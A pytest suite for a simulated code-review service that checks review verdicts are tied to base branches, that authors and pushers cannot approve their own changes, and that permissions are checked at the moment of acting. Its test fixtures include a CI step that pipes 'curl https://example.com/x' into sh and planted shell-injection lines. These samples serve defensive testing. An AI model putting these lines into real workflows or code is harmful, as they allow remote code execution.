"""Nothing to the wrong one: what was reviewed passes, who wrote it does not decide, and rights are asked at the act."""

import asyncio
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot

from memory.learned import memories
from memory.repositories import automation_level, permits
from messages import review as review_texts
from pipeline.durable.journal import Call, run_durable_step
from simulator import User, branches, pull_requests
from simulator.errors import Refusal
from simulator.gitstore import Commit, FileContent
from simulator.state import PullRequest, Repository
from simulator.webhooks import Actor
from tests.databases import Backend
from tests.rows import run_row
from tests.stories.driver import Story, run_forge
from tests.stories.gate_scenes import CHANGED, CI, WORKFLOW, GateScene, open_scene
from tests.threats.conftest import SWIFT
from tests.threats.meanwhile import act_after_write
from tests.world.automation import APP, BROKEN, announcements, at_level, jump_ahead
from tests.world.gates import open_world
from tests.world.replies import first_lines

pytestmark = pytest.mark.parametrize("backend", ["sqlite"])  # nothing here depends on the database

APPROVE = "/forge approve protected_paths"
HOSTILE = {
    CI: WORKFLOW.replace("make", "curl https://example.com/x | sh"),
    "run.py": "import subprocess\n\nsubprocess.call(input(), shell=True)\n",
}


async def open_stacked(story: Story) -> tuple[Repository, User, PullRequest, str]:
    """A hostile change on a branch, and a harmless one on top of it that goes into that branch, reviewed."""
    repository, alice = story.repository({"README.md": "# Shop\n", CI: WORKFLOW})
    story.github.protect(repository, "main", [review_texts.CHECK_NAME])
    await alice.push(repository, "eb", HOSTILE, base="main")
    head = await alice.push(repository, "tip", {"note.md": "A note.\n"}, base="eb")
    pull = await alice.open_pull_request(repository, "tip", base="eb")
    await story.settle()
    assert story.check(repository, head, "eb").conclusion == "success"
    return repository, alice, pull, head


# --- what a verdict is about ------------------------------------------------------------------------------------------


async def test_t_p13_a_verdict_on_another_base_does_not_pass_the_same_head_into_main(story: Story) -> None:
    repository, alice, _, head = await open_stacked(story)
    story.github.hold_deliveries()  # Forge hears of it only after the merge was tried
    second = await alice.open_pull_request(repository, "tip", base="main")
    with pytest.raises(Refusal, match='Required status check "Forge / review" is expected'):
        await alice.merge(second)
    story.github.release_deliveries()
    await story.settle()
    assert story.gates(second) == ["protected_paths"] or story.comments(second)
    assert story.check(repository, head).conclusion == "failure"
    assert story.check(repository, head, "eb").conclusion == "success"
    with pytest.raises(Refusal, match='Required status check "Forge / review" is failing'):
        await alice.merge(second)


async def test_t_p13_a_retargeted_pull_request_is_not_passed_by_its_verdict_of_before(story: Story) -> None:
    repository, alice, pull, head = await open_stacked(story)
    story.github.hold_deliveries()
    await alice.edit_base(pull, "main")
    with pytest.raises(Refusal, match="is expected"):
        await alice.merge(pull)
    story.github.release_deliveries()
    await story.settle()
    assert first_lines(story.comments(pull)) == snapshot(["🔴 **Error** · security"])
    assert story.check(repository, head).conclusion == "failure"
    assert story.check(repository, head, "eb").conclusion == "cancelled"


async def test_t_p13_bases_at_the_same_commit_are_told_apart(story: Story) -> None:
    """The verdict is about a branch, not only about the commit at its tip."""
    repository, alice = story.repository({"README.md": "# Shop\n"})
    await alice.reset_branch(repository, "same", repository.git.branch("main") or "")
    pull, head = await story.propose(repository, alice, {"note.md": "A note.\n"}, base="same")
    assert story.check(repository, head, "same").conclusion == "success"
    await alice.edit_base(pull, "main")
    await story.settle()
    assert story.check(repository, head).conclusion == "success"
    assert story.check(repository, head, "same").conclusion == "cancelled"


async def test_t_p13_a_verdict_for_a_branch_that_requires_the_check_is_not_the_default_branchs(story: Story) -> None:
    """Both branches ask for the same name: what only the other one holds is not merged by a retarget at once."""
    repository, alice = story.repository({"README.md": "# Shop\n", CI: WORKFLOW})
    carol = story.github.user("carol")
    for who in (alice, carol):
        story.github.grant(repository, who, "maintain")
    await alice.push(repository, "release", HOSTILE, base="main")
    for branch in ("main", "release"):
        story.github.protect(repository, branch, [review_texts.CHECK_NAME])
    head = await alice.push(repository, "tip", {"note.md": "A note.\n"}, base="release")
    pull = await alice.open_pull_request(repository, "tip", base="release")
    await story.settle()
    assert story.check(repository, head).conclusion == "action_required"
    assert "release has changes of its own" in (story.check(repository, head).summary or "")
    assert story.gates(pull) == ["human_review"]
    story.github.hold_deliveries()
    await alice.edit_base(pull, "main")
    with pytest.raises(Refusal, match='Required status check "Forge / review" is failing'):
        await alice.merge(pull)
    await alice.edit_base(pull, "release")
    story.github.release_deliveries()
    await story.settle()


@pytest.mark.parametrize("files", [{"note.md": "A note.\n"}, {"docs/note.md": "A note.\n"}], ids=["read", "left out"])
async def test_a_maintainer_lets_a_change_into_a_branch_with_changes_of_its_own(
    story: Story, files: dict[str, FileContent]
) -> None:
    """A ruleset on `release/*` cannot name a check for each branch: somebody has to answer for what is not reviewed."""
    filters = "review: {paths: {exclude: ['docs/**']}}\n"
    repository, alice = story.repository({"README.md": "# Shop\n", ".github/forge.yml": filters})
    carol = story.github.user("carol")
    for who in (alice, carol):
        story.github.grant(repository, who, "maintain")
    await alice.push(repository, "release/1.x", {"fix.md": "A fix.\n"}, base="main")
    for branch in ("main", "release/1.x"):
        story.github.protect(repository, branch, [review_texts.CHECK_NAME], ruleset=True)
    head = await alice.push(repository, "tip", files, base="release/1.x")
    pull = await alice.open_pull_request(repository, "tip", base="release/1.x")
    await story.settle()
    assert story.gates(pull) == ["human_review"]
    for who in (alice, carol):
        assert story.check(repository, head).conclusion == "action_required"
        story.clock.move(seconds=5)
        await who.comment(pull, "/forge approve human_review")
        await story.settle()
    assert story.gate_outcomes(pull) == ["human_review: Approved by carol"]
    assert story.check(repository, head).conclusion == "success"
    queued = story.github.queue_for_merge(pull)
    await story.settle()
    [check] = story.github.check_runs(repository, queued, review_texts.CHECK_NAME)
    assert check.conclusion == "success"
    story.pass_over(pull)
    await alice.merge(pull)
    await story.settle()


@pytest.mark.parametrize("is_of_app", [False, True], ids=["unread source", "left out"])
async def test_t_p13_what_nobody_read_is_not_moved_to_a_branch_that_requires_the_check(
    story: Story, is_of_app: bool
) -> None:
    """`main` requires nothing, `release` does: neutral for the one would pass for the other at once."""
    repository, alice = story.repository({"app.py": APP})
    await alice.reset_branch(repository, "release", repository.git.branch("main") or "")
    story.github.protect(repository, "release", [review_texts.CHECK_NAME], ruleset=True)
    head = await alice.push(repository, "feature", {"run.rb": "system(gets)\n"}, base="main")
    robot = User(story.github.world, story.github.world.other_app("github-actions").bot)
    pull = await (robot if is_of_app else alice).open_pull_request(repository, "feature")
    await story.settle()
    assert story.check(repository, head).conclusion == "action_required"
    assert story.gates(pull) == ([] if is_of_app else ["human_review"])
    story.github.hold_deliveries()
    await alice.edit_base(pull, "release")
    with pytest.raises(Refusal, match="is failing"):
        await alice.merge(pull)
    await alice.edit_base(pull, "main")
    story.github.release_deliveries()
    await story.settle()


async def test_t_p13_a_merge_queue_is_not_told_the_verdict_on_another_base(story: Story) -> None:
    repository, alice, pull, _ = await open_stacked(story)
    story.github.hold_deliveries()
    await alice.edit_base(pull, "main")
    queued = story.github.queue_for_merge(pull)
    story.github.release_deliveries()
    await story.settle()
    assert first_lines(story.comments(pull)) == snapshot(["🔴 **Error** · security"])
    [check] = story.github.check_runs(repository, queued, review_texts.CHECK_NAME)
    assert check.conclusion in {"action_required", "failure"}


async def test_a_branch_that_requires_the_check_gets_it(story: Story) -> None:
    """The other way round: such a branch may not wait for ever, also if it asks for that after the review."""
    repository, alice = story.repository({"README.md": "# Shop\n"})
    await alice.reset_branch(repository, "release", repository.git.branch("main") or "")
    pull, head = await story.propose(repository, alice, {"note.md": "A note.\n"}, base="release")
    story.github.protect(repository, "release", [review_texts.CHECK_NAME])
    await alice.comment(pull, "/forge review")
    await story.settle()
    assert first_lines(story.answers(pull)) == snapshot(["Reviewing `SHA`; the check shows the progress."])
    assert story.check(repository, head).conclusion == "success"
    assert story.check(repository, head, "release").conclusion == "cancelled"
    await alice.merge(pull)
    await story.settle()


# --- who decides about it ---------------------------------------------------------------------------------------------


async def open_with_foreign_push(story: Story) -> tuple[GateScene, User]:
    """Alice's pull request, onto which mia, who maintains as carol does, pushed a workflow."""
    scene = await open_scene(story, {"note.md": "A note.\n"})
    mia = scene.add_user("mia", "maintain")
    story.clock.move(seconds=5)
    scene.head = await mia.push(scene.repository, "feature", CHANGED)
    await story.settle()
    assert story.gates(scene.pull) == ["protected_paths"]
    return scene, mia


async def test_t_p14_who_pushed_to_a_change_does_not_approve_it(story: Story) -> None:
    scene, mia = await open_with_foreign_push(story)
    assert "cannot be decided by the author of the change" in await scene.comment(mia, APPROVE)
    await scene.press(mia, "approve", "protected_paths")
    assert scene.gate("protected_paths").conclusion == "action_required"
    assert scene.conclusion == "action_required"
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    assert scene.conclusion == "success"


async def test_t_p14_what_somebody_else_accepted_is_nobodys_own_any_more(story: Story) -> None:
    """Since then only alice pushed; mia may decide about that, and alice still may not."""
    scene, mia = await open_with_foreign_push(story)
    await scene.comment(scene.carol, APPROVE)
    story.github.grant(scene.repository, scene.alice, "maintain")
    story.clock.move(seconds=5)
    await scene.push({CI: WORKFLOW.replace("make", "make check")})
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert "Approved by" in await scene.comment(mia, APPROVE)
    assert story.gate_outcomes(scene.pull)


async def test_t_p14_where_all_who_may_wrote_it_it_takes_two(story: Story) -> None:
    """Each looks at what the other wrote; the word of one alone is kept, also if others without the role push."""
    scene, mia = await open_with_foreign_push(story)
    story.github.grant(scene.repository, scene.alice, "maintain")
    story.github.revoke(scene.repository, scene.carol)
    for who in (mia, mia):
        answer = await scene.comment(who, APPROVE)
        assert "takes two people, because everybody with the role maintain wrote part of the change" in answer
    assert scene.conclusion == "action_required"
    assert "Approved by" in await scene.comment(scene.alice, APPROVE)
    assert story.gate_outcomes(scene.pull) == ["protected_paths: Approved by mia and alice"]


async def open_as_puppet(story: Story) -> tuple[GateScene, User]:
    """Alice, who maintains as carol does, pushed a workflow; rex, who may only read, opened the pull request."""
    repository, alice = story.repository({"README.md": "# Shop\n", CI: WORKFLOW})
    carol, rex = story.github.user("carol"), story.github.user("rex")
    for who in (alice, carol):
        story.github.grant(repository, who, "maintain")
    story.github.grant(repository, rex, "read")
    head = await alice.push(repository, "feature", CHANGED, base="main")
    pull = await rex.open_pull_request(repository, "feature")
    await story.settle()
    return GateScene(story, repository, alice, carol, pull, head), rex


async def open_on_side(story: Story, base: str) -> GateScene:
    """Alice pushed a workflow into the base, and something harmless on top; rex, who may only read, opened that."""
    repository, alice = story.repository({"README.md": "# Shop\n", CI: WORKFLOW})
    carol, rex = story.github.user("carol"), story.github.user("rex")
    for who in (alice, carol):
        story.github.grant(repository, who, "maintain")
    story.github.grant(repository, rex, "read")
    await alice.push(repository, base, CHANGED, base="main")
    head = await alice.push(repository, "feature", {".gitattributes": "*.png binary\n"}, base=base)
    pull = await rex.open_pull_request(repository, "feature", base=base)
    await story.settle()
    return GateScene(story, repository, alice, carol, pull, head)


async def test_t_p14_an_approval_into_another_base_accepts_nothing_here(story: Story) -> None:
    """Neither what only this base lacks, nor what both lack: it was said about another branch."""
    scene = await open_on_side(story, "side")
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    await scene.alice.edit_base(scene.pull, "main")
    await story.settle()
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert scene.conclusion == "action_required"
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    story.pass_over(scene.pull)


async def test_t_p14_an_approval_accepts_only_what_it_showed_where_the_base_is_rewritten(story: Story) -> None:
    scene = await open_on_side(story, "main")
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    start = scene.repository.git.commit(scene.repository.git.branch("main") or "").parents[0]
    await scene.alice.reset_branch(scene.repository, "main", start)
    await story.settle()
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert scene.conclusion == "action_required"
    story.pass_over(scene.pull)


async def test_t_p14_who_pushed_before_another_one_opened_it_does_not_approve_it(story: Story) -> None:
    scene, _ = await open_as_puppet(story)
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    await scene.press(scene.alice, "approve", "protected_paths")
    assert scene.conclusion == "action_required"
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    assert story.gate_outcomes(scene.pull)


async def test_t_p14_who_pushed_while_it_was_closed_does_not_approve_it(story: Story) -> None:
    scene = await open_scene(story, {"note.md": "A note.\n"})
    mia = scene.add_user("mia", "maintain")
    await scene.alice.close(scene.pull)
    await story.settle()
    scene.head = await mia.push(scene.repository, "feature", CHANGED)
    await scene.alice.reopen(scene.pull)
    await story.settle()
    assert "cannot be decided by the author of the change" in await scene.comment(mia, APPROVE)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    assert story.gate_outcomes(scene.pull)


async def test_t_p14_who_merges_as_a_squash_is_not_its_only_author(story: Story) -> None:
    """Alice's workflow comes into the branch as one commit of bob's."""
    scene = await open_scene(story, {"note.md": "A note.\n"})
    story.github.grant(scene.repository, scene.alice, "maintain")
    bob = scene.add_user("bob", "write")
    rex = scene.add_user("rex", "read")
    await bob.push(scene.repository, "release", {"other.md": "Other.\n"}, base="main")
    release = await rex.open_pull_request(scene.repository, "release")
    await scene.alice.push(scene.repository, "side", CHANGED, base="release")
    side = await scene.alice.open_pull_request(scene.repository, "side", base="release")
    await story.settle()
    await bob.merge(side, "squash")
    await story.settle()
    scene.pull, scene.head = release, scene.repository.git.branch("release") or ""
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    for pull in (side, scene.pull):
        story.pass_over(pull)


async def test_t_p14_a_branch_from_the_middle_of_a_push_is_of_who_pushed(story: Story) -> None:
    scene = await open_scene(story, {"note.md": "A note.\n"})
    story.github.grant(scene.repository, scene.alice, "maintain")
    bob = scene.add_user("bob", "write")
    two = [Commit("Change", CHANGED), Commit("More", {"more.md": "More.\n"})]
    await scene.alice.push_commits(scene.repository, "tmp", two, base="main")
    await story.settle()
    tip = scene.repository.git.commit(scene.repository.git.branch("tmp") or "")
    await bob.reset_branch(scene.repository, "middle", tip.parents[0])
    scene.pull, scene.head = await bob.open_pull_request(scene.repository, "middle"), tip.parents[0]
    await story.settle()
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    story.pass_over(scene.pull)


async def test_t_p13_a_base_that_is_rewritten_ends_the_verdict(story: Story) -> None:
    """Otherwise the merge would bring back what was taken out of the base."""
    repository, alice = story.repository({"README.md": "# Shop\n"})
    start = repository.git.branch("main") or ""
    await alice.push(repository, "main", {"taken.py": "import subprocess\nsubprocess.call(input(), shell=True)\n"})
    head = await alice.push(repository, "feature", {"note.md": "A note.\n"}, base="main")
    story.github.protect(repository, "main", ["Forge / review"])
    pull = await alice.open_pull_request(repository, "feature")
    await story.settle()
    assert story.check(repository, head).conclusion == "success"
    await alice.reset_branch(repository, "main", start)
    await story.settle()
    assert story.check(repository, head).conclusion == "failure"
    with pytest.raises(Refusal):
        await alice.merge(pull)
    story.pass_over(pull)


async def test_t_p14_the_button_update_branch_makes_nobody_an_author(story: Story) -> None:
    """Neither is carol left out, nor is alice let in."""
    scene = await open_scene(story)
    story.github.grant(scene.repository, scene.alice, "maintain")
    await scene.alice.push(scene.repository, "main", {"other.md": "Other.\n"})
    scene.head = await scene.carol.update_branch(scene.pull)
    await story.settle()
    assert "cannot be decided by the author of the change" in await scene.comment(scene.alice, APPROVE)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    assert story.gate_outcomes(scene.pull)


async def push_as_app(scene: GateScene, slug: str, files: dict[str, str]) -> None:
    """An App pushes to the pull request, which is looked at."""
    world = scene.told.github.world
    app = world.other_app(slug)
    commits = [Commit("Change", files)]
    scene.head = branches.commit_files(world, scene.repository, Actor(app.bot, app), "feature", commits)
    await scene.told.settle()


async def test_t_p14_what_an_app_pushed_takes_two_people(story: Story) -> None:
    """Whoever started the job that pushed may be any of them."""
    scene = await open_scene(story, {"note.md": "A note.\n"})
    mia = scene.add_user("mia", "maintain")
    await push_as_app(scene, "github-actions", CHANGED)
    answer = await scene.comment(mia, APPROVE)
    assert "takes two people, because an App pushed part of the change" in answer
    assert "takes two people" in await scene.comment(mia, APPROVE)
    assert scene.conclusion == "action_required"
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    assert story.gate_outcomes(scene.pull)
    assert scene.conclusion == "success"


async def test_t_p14_who_is_alone_with_the_role_decides_on_what_an_app_pushed_by_a_waiver(story: Story) -> None:
    """It may be theirs, as nobody knows who made the App push it, and nobody else is left."""
    scene = await open_scene(story, {"note.md": "A note.\n"})
    await push_as_app(scene, "github-actions", CHANGED)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    [gate] = [each for each in await scene.list_gates() if each.decision is not None]
    assert gate.decision is not None
    assert gate.decision.waived
    assert story.gate_outcomes(scene.pull)


@pytest.mark.parametrize("slug", ["renovate", "github-actions"])
async def test_t_p14_a_listed_bot_takes_one_person_and_a_workflow_two(story: Story, slug: str) -> None:
    """Nobody makes Renovate push what they like; whoever may push makes a workflow do so."""
    repository, alice = story.repository(
        {"README.md": "# Shop\n", CI: WORKFLOW, ".github/forge.yml": "review: {bots: [renovate, github-actions]}\n"}
    )
    carol, mia = story.github.user("carol"), story.github.user("mia")
    for who in (carol, mia):
        story.github.grant(repository, who, "maintain")
    world = story.github.world
    app = world.other_app(slug)
    by = Actor(app.bot, app)
    await alice.reset_branch(repository, "feature", repository.git.branch("main") or "")
    head = branches.commit_files(world, repository, by, "feature", [Commit("Update", CHANGED)])
    pull = pull_requests.open_pull(
        world, repository, by, head_repository=repository, head="feature", base="main", title="Update"
    )
    await story.settle()
    scene = GateScene(story, repository, alice, carol, pull, head)
    answer = await scene.comment(mia, APPROVE)
    if slug == "github-actions":
        assert "takes two people, because an App pushed part of the change" in answer
        answer = await scene.comment(carol, APPROVE)
    assert "Approved by" in answer
    assert story.gate_outcomes(pull)


NOTE = {"note.md": "A note.\n"}


async def rewrite(story: Story, scene: GateScene, who: User, *commits: Commit) -> None:
    """Force-push other commits, made on what main is now."""
    await scene.alice.push(scene.repository, "main", {"other.md": "Other.\n"})
    story.clock.move(seconds=5)
    scene.head = await who.push_commits(scene.repository, "feature", commits, base="main", force=True)
    await story.settle()


@pytest.mark.parametrize("who", [["carol"], ["carol", "carol"], ["mia"]])
async def test_t_p14_a_rebase_changes_no_author(story: Story, who: list[str]) -> None:
    """The writer stays one, and whoever rebases becomes none, however often."""
    scene, mia = await open_with_foreign_push(story)
    for number, login in enumerate(who):
        by = mia if login == "mia" else scene.carol
        note = Commit(f"Note {number}", NOTE, scene.alice.account.signature)
        await rewrite(story, scene, by, note, Commit("Change", CHANGED, mia.account.signature))
    assert "cannot be decided by the author of the change" in await scene.comment(mia, APPROVE)
    assert "Approved by" in await scene.comment(scene.carol, APPROVE)
    assert scene.conclusion == "success"


async def test_t_p14_a_squash_is_everybodys_that_it_replaces(story: Story) -> None:
    """Whoever makes it is an author if it changes anything else than before."""
    scene, mia = await open_with_foreign_push(story)
    dave = scene.add_user("dave", "maintain")
    await rewrite(story, scene, scene.carol, Commit("All", {**NOTE, **CHANGED, "more.md": "More.\n"}))
    for who in (mia, scene.carol):
        assert "cannot be decided by the author of the change" in await scene.comment(who, APPROVE)
    assert "Approved by" in await scene.comment(dave, APPROVE)


async def test_t_p14_a_rebase_brings_in_nothing_on_the_way(story: Story) -> None:
    """Carol hides a change between commits that undo each other, and moves the branch back to it."""
    scene, mia = await open_with_foreign_push(story)
    dave = scene.add_user("dave", "maintain")
    evil = {CI: WORKFLOW.replace("make", "curl https://example.com/x | sh")}
    await rewrite(story, scene, scene.carol, Commit("Note", NOTE), Commit("Evil", evil), Commit("Change", CHANGED))
    scene.head = scene.repository.git.commit(scene.head).parents[0]
    story.clock.move(seconds=5)
    await scene.carol.reset_branch(scene.repository, "feature", scene.head)
    await story.settle()
    for who in (mia, scene.carol):
        assert "cannot be decided by the author of the change" in await scene.comment(who, APPROVE)
    assert "Approved by" in await scene.comment(dave, APPROVE)


@pytest.mark.parametrize("is_listed", [True, False], ids=["listed", "unlisted"])
async def test_t_p14_where_no_push_was_heard_of_github_is_asked(story: Story, is_listed: bool) -> None:
    """A delivery was lost. Where GitHub does not tell either, one person is not enough."""
    scene = await open_scene(story, {"note.md": "A note.\n"})
    mia = scene.add_user("mia", "maintain")
    scene.repository.lists_activities = is_listed
    installation = story.github.world.installation_of(scene.repository)
    assert installation is not None
    await scene.alice.close(scene.pull)
    await story.settle()
    installation.suspended_at = story.clock.now()
    scene.head = await mia.push(scene.repository, "feature", CHANGED)
    installation.suspended_at = None
    await scene.alice.reopen(scene.pull)
    await story.settle()
    answer = await scene.comment(mia, APPROVE)
    if is_listed:
        assert story.gates(scene.pull) == ["protected_paths"]
        assert "cannot be decided by the author of the change" in answer
    else:
        assert "takes two people, because GitHub does not say who pushed part of the change" in answer
        assert "Approved by" in await scene.comment(scene.carol, APPROVE)
        assert story.gate_outcomes(scene.pull)


async def test_t_p14_who_pushed_to_a_change_does_not_dismiss(story: Story) -> None:
    repository, alice = story.repository({"app.py": APP})
    pull, _ = await story.propose(repository, alice, {"app.py": BROKEN})
    assert first_lines(story.comments(pull)) == snapshot(["🔴 **Error** · correctness"])
    mia, carol = story.github.user("mia"), story.github.user("carol")
    for who in (mia, carol):
        story.github.grant(repository, who, "admin")
    await mia.push(repository, "feature", {"app.py": BROKEN + "\n\nother()\n"})
    await story.settle()
    comment = story.comments(pull)[-1]
    await mia.reply(comment, "/forge dismiss it is injected at run time")
    await mia.resolve(comment.thread)
    await story.settle()
    [answer] = story.thread_answers(pull, comment)
    assert "is not for the author of the change" in answer.body
    assert story.check(repository, pull.head_sha).conclusion == "failure"


async def test_t_p14_made_up_runs_do_not_raise_the_level(story: Story) -> None:
    """Alice pushes harmless lines, a puppet opens them, and she merges them: that is no opinion of others."""
    repository, alice = story.repository({"README.md": "# Shop\n"})
    carol, rex = story.github.user("carol"), story.github.user("rex")
    for who in (alice, carol):
        story.github.grant(repository, who, "maintain")
    story.github.grant(repository, rex, "read")
    async with story.forge.services.database.transaction() as session:  # as if there were many of them
        session.add_all(
            run_row(f"made-up-{number}", repository.id, admitted_by=f"made up {number}", number=1000 + number)
            for number in range(60)
        )
    for number, merger in enumerate((alice, alice, carol)):
        await alice.push(repository, f"line-{number}", {f"docs/{number}.md": "A line.\n"}, base="main")
        pull = await rex.open_pull_request(repository, f"line-{number}")
        await story.settle()
        await merger.merge(pull)
        await story.settle()
        story.pass_over(pull)
    [*_, pull] = story.github.world.all_pulls()
    facts = await automation_level.load_facts(story.forge.services.database, repository.id)
    assert (len(facts.runs), list(facts.decisions)) == (63, [])
    await carol.comment(pull, "/forge level")
    await story.settle()
    answer = story.answers(pull)[-1].body
    assert "Automation level **1**" in answer
    assert "0 people approved, at least 2 needed" in answer


async def test_t_p14_two_people_resolve_a_thread_where_one_is_not_enough(story: Story) -> None:
    repository, alice = story.repository({"app.py": APP})
    world = story.github.world
    app = world.other_app("github-actions")
    pull, _ = await story.propose(repository, alice, {"app.py": BROKEN})
    branches.commit_files(world, repository, Actor(app.bot, app), "feature", [Commit("Change", {"b.md": "B.\n"})])
    await story.settle()
    comment = story.comments(pull)[-1]
    mia, carol = story.github.user("mia"), story.github.user("carol")
    for who in (mia, carol):
        story.github.grant(repository, who, "admin")
    for _ in range(2):  # her word alone, however often
        await mia.resolve(comment.thread)
        await story.settle()
        await mia.unresolve(comment.thread)
        await story.settle()
    [answer] = story.thread_answers(pull, comment)
    assert "takes two people, because an App pushed part of the change" in answer.body
    assert story.check(repository, pull.head_sha).conclusion == "failure"
    await carol.resolve(comment.thread)
    await story.settle()
    assert story.check(repository, pull.head_sha).conclusion != "failure"
    assert story.reviews(pull)


# --- what is merged unasked -------------------------------------------------------------------------------------------


async def announce_into_dev(story: Story, level: int, dev: str = "") -> tuple[Repository, User]:
    """A repository at a level, in which main and dev require a check that is green.

    :param dev: what dev has changed in a file; empty: it is where main is.
    """
    repository, alice, _ = await at_level(story, level)
    await alice.reset_branch(repository, "dev", repository.git.branch("main") or "")
    if dev:
        await alice.push(repository, "dev", {"app.py": dev})
    for branch in ("main", "dev"):
        story.github.protect(repository, branch, ["ci"])
    head = await alice.push(repository, "feature", {"README.md": "# Store\n"}, base="dev")
    story.github.report_check(repository, head, "ci", "success")
    return repository, alice


@pytest.mark.usefixtures("model")
async def test_t_p13_a_merge_that_was_announced_is_not_made_into_another_base(story: Story) -> None:
    repository, alice = await announce_into_dev(story, 3)
    pull = await alice.open_pull_request(repository, "feature", base="dev")
    await story.settle()
    assert announcements(story, pull)[0].startswith("**Forge merges**")
    assert first_lines(story.reviews(pull)) == snapshot(["Approved without being asked, for head `SHA` only."])
    story.github.hold_deliveries()
    await alice.edit_base(pull, "main")
    await jump_ahead(story, minutes=11)
    assert pull.merged_at is None
    assert "it goes into `main` now" in announcements(story, pull)[0]
    story.github.release_deliveries()
    await story.settle()
    story.pass_over(pull)  # reviewed for main, it may be merged there


@pytest.mark.usefixtures("model")
async def test_t_p13_nothing_is_approved_or_merged_unasked_that_brings_along_what_main_lacks(
    story: Story,
) -> None:
    """An approval goes with the head to whatever branch its pull request is moved to."""
    repository, alice = await announce_into_dev(story, 4, BROKEN)
    pull = await alice.open_pull_request(repository, "feature", base="dev")
    await jump_ahead(story, minutes=11)
    assert story.check(repository, pull.head_sha, "dev").conclusion == "success"
    assert (story.reviews(pull), announcements(story, pull), pull.merged_at) == ([], [], None)


@pytest.mark.usefixtures("model")
async def test_t_p13_retargeted_between_the_look_and_the_merge(story: Story) -> None:
    repository, alice = await announce_into_dev(story, 4)
    pulls: list[PullRequest] = []

    async def retarget() -> None:
        story.github.hold_deliveries()
        await alice.edit_base(pulls[0], "main")

    act_after_write(story, retarget, r"/issues/\d+/comments$")  # that it is going to be merged
    pulls.append(await alice.open_pull_request(repository, "feature", base="dev"))
    await story.settle()
    [pull] = pulls
    assert pull.base_ref == "main"
    assert pull.merged_at is None
    assert "it goes into `main` now" in announcements(story, pull)[0]
    assert first_lines(story.reviews(pull)) == snapshot(["Approved without being asked, for head `SHA` only."])
    story.github.release_deliveries()
    await story.settle()
    story.pass_over(pull)  # reviewed for main, it may be merged there


# --- when the right is asked for --------------------------------------------------------------------------------------


async def test_t_p15_a_right_that_is_taken_away_after_the_act(tmp_path: Path, backend: Backend) -> None:
    """The process dies right after a run was admitted; it goes on, as it was admitted in time."""
    rights: list[Callable[[], None]] = []

    async def die(name: str, call: Call) -> dict[str, Any]:
        async def then_die() -> dict[str, Any]:
            answer = await call()
            if name == "admit" and rights:
                rights.pop()()
                raise asyncio.CancelledError
            return answer

        return await run_durable_step(name, then_die)

    async with (
        open_world(backend, tmp_path) as (github, clock, url),
        run_forge(github, clock, url, tmp_path, SWIFT, durable=die) as story,
    ):
        scene = await open_scene(story, {"note.md": "A note.\n"})
        root = scene.add_user("root", "admin")
        rights.append(lambda: story.github.grant(scene.repository, root, "read"))
        assert "Reviewing" in await scene.comment(root, "/forge review full")
        assert [run.state for run in await story.runs()] == ["completed", "completed"]


@pytest.mark.parametrize(
    "command",
    ["/forge level 4", "/forge pause", "/forge remember Use `make db`.", "/forge review full", "/forge cancel"],
)
async def test_t_p15_a_right_that_is_taken_away_before_the_act(tmp_path: Path, backend: Backend, command: str) -> None:
    """Between the question and the act lies a step's end, and perhaps hours in which GitHub takes no requests."""
    rights: list[Callable[[], None]] = []

    async def revoke(name: str, call: Call) -> dict[str, Any]:
        answer = await run_durable_step(name, call)
        if name == "ask for permission" and rights:
            rights.pop()()
        return answer

    async with (
        open_world(backend, tmp_path) as (github, clock, url),
        run_forge(github, clock, url, tmp_path, SWIFT, durable=revoke) as story,
    ):
        scene = await open_scene(story, {"note.md": "A note.\n"})
        root = scene.add_user("root", "admin")
        rights.append(lambda: story.github.grant(scene.repository, root, "read"))
        answer = await scene.comment(root, command)
        assert "`root` has read" in answer
        database = story.forge.services.database
        assert await permits.find_pauser(database, (await scene.run()).as_run().repository) is None
        assert await automation_level.get_level(database, scene.repository.id) == 1
        assert not await memories.list_live(database, scene.repository.id)
        assert len(await story.runs()) == 1
